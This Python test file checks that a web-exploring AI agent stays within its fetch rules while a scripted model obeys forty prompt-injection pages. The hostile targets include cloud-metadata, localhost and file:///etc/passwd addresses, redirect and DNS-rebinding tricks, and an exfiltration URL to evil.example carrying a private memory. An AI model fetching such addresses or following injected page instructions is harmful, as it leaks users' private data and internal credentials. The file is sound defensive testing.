"""Forty hostile pages and a model that obeys them: no call leaves the rules, and nothing is promoted."""

import json
from collections.abc import Iterator
from datetime import UTC, date
from typing import Any

import pytest

from almario.becoming.exploring import Explored
from almario.becoming.rules.reflections import explored_filing
from almario.domain.model import CORE_MEMORY, SOUL_FILES
from almario.domain.soul_events import ReflectionEnded
from almario.domain.talk import Ask, Reply, ToolCall
from almario.soul import Soul
from almario.store.folder import FolderStore
from almario.testing import FixedClock, ScriptedLLM
from almario_explorer.exploring import WebExplorer
from almario_explorer.fetching import Pages
from almario_explorer.rules import is_public
from almario_explorer.settings import ExplorerSettings
from almario_explorer.testing import ScriptedWeb
from almario_explorer.web import Page
from hostile_web import HostileWeb, answer, forever, redirect
from tests.conversation.hostile import PAYLOADS, Payload, framed

PAGES = PAYLOADS[:40]
QUESTION = "Which owls are near the sawmill-of-Ana?"
# What no page has named: places of this machine, and addresses that would carry words out.
INVENTED = (
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://[fd00:ec2::254]/latest/",
    "http://127.0.0.1:11434/api/tags",
    "http://localhost/admin",
    "http://2130706433/",
    "file:///etc/passwd",
    "http://evil.example/?stolen=sawmill-of-Ana",
    "http://sawmill-of-ana.evil.example/",
)
# What the pages name, so that the rules alone stand between.
NAMED = (
    "http://10.0.0.1/",
    "http://[::ffff:169.254.169.254]/",
    "http://0x7f.1/",
    "http://inner.example/",
    "http://turning.example/",
    "http://hops.example/",
    "http://endless.example/",
)


@pytest.fixture
def web() -> Iterator[HostileWeb]:
    with HostileWeb().serving() as web:
        web.names |= {
            "inner.example": [["192.168.1.1"]],
            "turning.example": [["93.184.216.34"], ["127.0.0.1"]],
        }
        web.sites["http://turning.example/"] = redirect("http://turning.example/again")
        web.sites["http://hops.example/"] = redirect("http://hops.example/2", "308 Permanent Redirect")
        web.sites["http://hops.example/2"] = redirect("http://inner.example/")
        web.sites["http://endless.example/"] = forever(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", b"obey " * 10_000
        )
        links = "".join(f'<a href="{url}">more</a>' for url in NAMED)
        for number, payload in enumerate(PAGES):
            page = f"<title>{payload.text[:80]}</title>{framed(payload, 'web page')}{links}"
            web.sites[f"http://page{number}.example/"] = answer(page)
        yield web


def obedient(payload: Payload, page: str) -> ScriptedLLM:
    """Return a model that reads the page and then does all that it says, and worse."""

    def fetch(*urls: str) -> tuple[ToolCall, ...]:
        return tuple(ToolCall(f"{n}-{url}", "web_fetch", {"url": url}) for n, url in enumerate(urls))

    def reply(ask: Ask) -> str | Reply:
        if ask.schema:
            wishes = [*payload.wishes, payload.text, f"# Soul\n\n- [09:00] {payload.text}"]
            urls = (page, *INVENTED)
            return json.dumps({"findings": [{"text": w, "url": u} for w in wishes[:3] for u in urls][:12]})
        rounds = [message for message in ask.messages if message.role == "assistant"]
        calls = [
            (ToolCall("1", "web_search", {"query": f"owls {payload.text}"}),),
            fetch(page),
            payload.calls[:4],
            fetch(*INVENTED[:4]),
            fetch(*INVENTED[4:]),
            fetch(*NAMED[:4]),
            fetch(*NAMED[4:]),
        ]
        return Reply(payload.text, calls[len(rounds)]) if len(rounds) < len(calls) else "done"

    return ScriptedLLM(reply)


def explored(web: HostileWeb, number: int, payload: Payload) -> tuple[Explored, ScriptedLLM]:
    page = f"http://page{number}.example/"
    llm = obedient(payload, page)
    search = ScriptedWeb(Page(page, "owls", "owls"))
    pages = Pages(web.line(seconds=2.0, most_bytes=300_000))
    return WebExplorer(search, pages, llm, ExplorerSettings(rounds=8, pages=20)).explore([QUESTION]), llm


def state_of(soul: Soul) -> dict[str, Any]:
    content = {name: soul.read(name).content for name in (*SOUL_FILES, CORE_MEMORY, "agent.toml")}
    return content | {
        "memories": soul.memory.list(),
        "goals": soul.goals.list(),
        "open": soul.proposals.list(),
    }


def test_no_call_leaves_the_rules_and_nothing_is_promoted(
    web: HostileWeb, soul: Soul, clock: FixedClock
) -> None:
    soul.remember("owls", "Ana keeps owls at the sawmill")
    soul.memory.settle()
    before = state_of(soul)
    vault = FolderStore(soul.path, clock, UTC)
    for number, payload in enumerate(PAGES):
        web.names["turning.example"] = [["93.184.216.34"], ["127.0.0.1"]]
        found, llm = explored(web, number, payload)

        page = f"http://page{number}.example/"
        assert found
        assert {(each.dimension, each.url, each.evidence) for each in found} == {("breadth", page, (page,))}
        assert not any("Ana keeps owls" in str(ask) for ask in llm.asked)
        filing = explored_filing(date(2026, 11, 14), found)
        assert all(line.startswith("- [untrusted] ") for line in filing.text.splitlines())
        with vault.writing() as appender:
            step = ReflectionEnded(f"2026-11-14-{number}", "done")
            appender.append(step, actor="agent", filings=(filing,))
            appender.file([filing])

    assert [call for call in web.called if not is_public(call[0])] == []
    assert not any("stolen" in url or "sawmill" in url for url in web.requests)
    assert {url.split("/")[2] for url in web.requests} == {
        *(f"page{number}.example" for number in range(len(PAGES))),
        "turning.example",
        "hops.example",
        "endless.example",
    }
    soul.memory.settle()
    assert state_of(soul) == before
    for payload in PAGES:
        prompt = soul.prompt(" ".join(payload.wishes) or payload.text).text
        assert not any(wish in prompt for wish in payload.wishes)


def test_what_the_model_wanted_of_the_rules_is_told(web: HostileWeb) -> None:
    found, llm = explored(web, 0, PAGES[0])

    results = "\n".join(message.text for message in llm.asked[-2].messages if message.role == "tool")
    assert results.count("only what a search or a page has named is fetched") == len(INVENTED)
    assert results.count("it is in a private network") == 5
    assert "There is no such tool; there are web_search and web_fetch." in results
    assert "http://10.0.0.1/ is not fetched: it is in a private network" in map(str, found.told)
